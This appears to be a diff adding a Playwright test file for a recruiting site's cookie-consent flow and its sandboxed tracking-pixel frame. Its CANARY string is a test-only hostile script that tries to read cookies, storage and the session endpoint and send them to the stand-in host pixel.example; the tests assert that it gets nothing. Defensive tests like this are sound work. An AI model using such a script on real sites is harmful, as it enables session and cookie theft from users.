@@ -1,0 +1,170 @@
+import { type BrowserContext, expect, type Page, test } from 'playwright/test'
+import { wordsOf } from '../support/candidate.ts'
+import { startServer } from '../support/server.ts'
+import { withDatabase } from '../support/with-database.ts'
+
+const OPERATING = ['cookie_choices', 'date_locale', 'locale']
+const JOB = '/jobs/cuisinier-nancy'
+
+/** Tries all that a page must be safe from, and tells what it got by the one way that it has: a request. */
+const CANARY = `<script>
+const got = []
+const attempt = (name, work) => { try { const value = work(); if (value) got.push(name + ':' + value) } catch {} }
+attempt('cookie', () => document.cookie)
+attempt('storage', () => localStorage.length + 1)
+attempt('parent', () => parent !== window && parent.document.title)
+attempt('top', () => { if (top !== window) top.location = 'https://pixel.example/stolen' })
+parent.postMessage({ event: 'consent', detail: 'x', type: 'height', height: 9999 }, '*')
+const asked = fetch('/api/me', { credentials: 'include' }).then((reply) => reply.text()).then((text) => got.push('session:' + text), () => {})
+const written = fetch('/api/companies/almea/consents', { method: 'POST', body: '{}' }).then((reply) => got.push('call:' + reply.status), () => {})
+Promise.all([asked, written]).then(() => fetch('https://pixel.example/got?' + encodeURIComponent(JSON.stringify({ got, origin }))))
+addEventListener('message', ({ data }) => fetch('https://pixel.example/view?' + encodeURIComponent(JSON.stringify(data))))
+</script>`
+
+/** Stands in for what Google serves: it sends each event and has a cookie, as the real one does. */
+const GTAG = `document.cookie = '_ga=GA1.1.1; path=/'
+const send = (call) => call[0] === 'event' && fetch('https://www.google-analytics.com/g/collect?' + encodeURIComponent(JSON.stringify([...call])))
+const { push } = dataLayer
+dataLayer.forEach(send)
+dataLayer.push = (call) => { send(call); return push.call(dataLayer, call) }`
+
+let server: Awaited<ReturnType<typeof startServer>>
+test.beforeAll(async () => {
+  server = await startServer()
+  const uses = `update companies set analytics_id = 'G-TEST42', html_pixels_code = ?, chat_provider = 'crisp',
+    chat_id = 'almea-chat' where slug = 'almea'`
+  withDatabase((database) => database.prepare(uses).run(CANARY), server.dataDir)
+})
+test.afterAll(() => server.stop())
+
+const host = () => `almea.localhost:${server.port}`
+const at = (path: string) => `http://${host()}${path}`
+
+/** Everything that leaves the origin, answered by stubs. */
+async function listen(context: BrowserContext) {
+  const gone: URL[] = []
+  await context.route(
+    (url) => url.host !== host(),
+    (route) => {
+      const url = new URL(route.request().url())
+      gone.push(url)
+      const body = url.pathname === '/gtag/js' ? GTAG : ''
+      return route.fulfill({ body, contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' } })
+    },
+  )
+  const told = (path: string) =>
+    gone
+      .filter(({ pathname }) => pathname === path)
+      .map(({ search }) => JSON.parse(decodeURIComponent(search.slice(1))) as unknown)
+  return { hosts: () => [...new Set(gone.map((url) => url.host))].sort(), told, forget: () => (gone.length = 0) }
+}
+
+const names = async (context: BrowserContext) => (await context.cookies()).map(({ name }) => name).sort()
+const settled = (page: Page) => page.waitForLoadState('networkidle')
+
+for (const locale of ['en', 'fr'] as const)
+  test(`nothing leaves before the choice or after a refusal, in ${locale}`, async ({ browser }) => {
+    const say = await wordsOf(locale)
+    const context = await browser.newContext({ locale })
+    const heard = await listen(context)
+    const page = await context.newPage()
+    await page.goto(at(JOB))
+    const modal = page.getByRole('dialog', { name: say('consent.TITLE') })
+    await expect(modal).toBeVisible()
+    await settled(page)
+    expect([heard.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
+    await modal.getByRole('button', { name: say('consent.REFUSE') }).click()
+    await expect(modal).toBeHidden()
+    for (const path of ['/', JOB, '/all-jobs', `${JOB}/apply`]) {
+      await page.goto(at(path))
+      await settled(page)
+    }
+    await expect(page.getByRole('button', { name: say('site.FOOTER.COOKIES') })).toBeVisible()
+    expect([heard.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
+    await context.close()
+  })
+
+test('after Accept exactly the company’s list is loaded, its own code gets nothing, and taking it back ends it', async ({
+  browser,
+}) => {
+  const say = await wordsOf('en')
+  const context = await browser.newContext({ locale: 'en' })
+  const heard = await listen(context)
+  const page = await context.newPage()
+  await page.goto(at(`${JOB}?source=poster&secret=s3cret`))
+  await page.getByRole('button', { name: say('consent.ACCEPT') }).click()
+  await expect
+    .poll(heard.hosts)
+    .toEqual(['client.crisp.chat', 'pixel.example', 'www.google-analytics.com', 'www.googletagmanager.com'])
+
+  await expect.poll(() => heard.told('/got')).toEqual([{ got: [], origin: 'null' }])
+  const view = { event: 'page_view', path: `${JOB}?source=poster`, title: await page.title(), stage: 'abstract' }
+  await expect.poll(() => heard.told('/view')).toEqual([view])
+  expect(heard.told('/g/collect')).toEqual([['event', 'page_view', { stage: 'abstract' }]])
+  expect(await names(context)).toContain('_ga')
+  expect(page.url()).toContain(JOB)
+  await expect(page.getByRole('dialog')).toBeHidden()
+  const shown = () =>
+    withDatabase(
+      (database) => database.prepare('select action, choices from consents order by id').all(),
+      server.dataDir,
+    )
+  await expect.poll(() => shown().at(-1)).toMatchObject({ action: 'accept' })
+
+  heard.forget()
+  await page.goto(at(`${JOB}/apply`))
+  await expect.poll(() => heard.told('/g/collect')).toEqual([['event', 'page_view', {}]])
+  expect(heard.hosts()).not.toContain('pixel.example')
+  expect(await page.locator('iframe[src="/pixels"]').count()).toBe(0)
+
+  await page.goto(at(JOB))
+  await expect(page.locator('iframe[src="/pixels"]')).toBeAttached()
+  await settled(page)
+  await page.getByRole('button', { name: say('site.FOOTER.COOKIES') }).click()
+  const modal = page.getByRole('dialog', { name: say('consent.TITLE') })
+  await expect(modal.getByRole('checkbox', { name: say('consent.CATEGORY.tracking') })).toBeChecked()
+  const again = page.waitForEvent('load')
+  await modal.getByRole('button', { name: say('consent.REFUSE') }).click()
+  await again
+  heard.forget()
+  await page.goto(at(JOB))
+  await settled(page)
+  expect(await page.locator('iframe[src="/pixels"]').count()).toBe(0)
+  expect([heard.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
+  await context.close()
+})
+
+test('a choice is asked again after six months, not before', async ({ browser }) => {
+  const say = await wordsOf('en')
+  const context = await browser.newContext({ locale: 'en' })
+  await listen(context)
+  const page = await context.newPage()
+  await page.clock.setFixedTime(new Date('2026-01-10T10:00:00Z'))
+  await page.goto(at(JOB))
+  const modal = page.getByRole('dialog', { name: say('consent.TITLE') })
+  await modal.getByRole('button', { name: say('consent.REFUSE') }).click()
+  await page.clock.setFixedTime(new Date('2026-07-10T09:59:00Z'))
+  await page.goto(at(JOB))
+  await settled(page)
+  await expect(modal).toBeHidden()
+  await page.clock.setFixedTime(new Date('2026-07-10T10:01:00Z'))
+  await page.goto(at(JOB))
+  await expect(modal).toBeVisible()
+  await context.close()
+})
+
+test('the frame’s document is of no origin even when it is opened by itself, and only its company frames it', async ({
+  browser,
+}) => {
+  const context = await browser.newContext()
+  const heard = await listen(context)
+  const page = await context.newPage()
+  const reply = await page.goto(at('/pixels'))
+  expect(reply?.headers()['content-security-policy']).toBe(
+    "sandbox allow-scripts; frame-ancestors 'self'; form-action 'none'; object-src 'none'",
+  )
+  expect(reply?.headers()['set-cookie']).toBeUndefined()
+  await expect.poll(() => heard.told('/got')).toEqual([{ got: [], origin: 'null' }])
+  expect((await context.request.get(`http://levain.localhost:${server.port}/pixels`)).status()).toBe(404)
+  await context.close()
+})
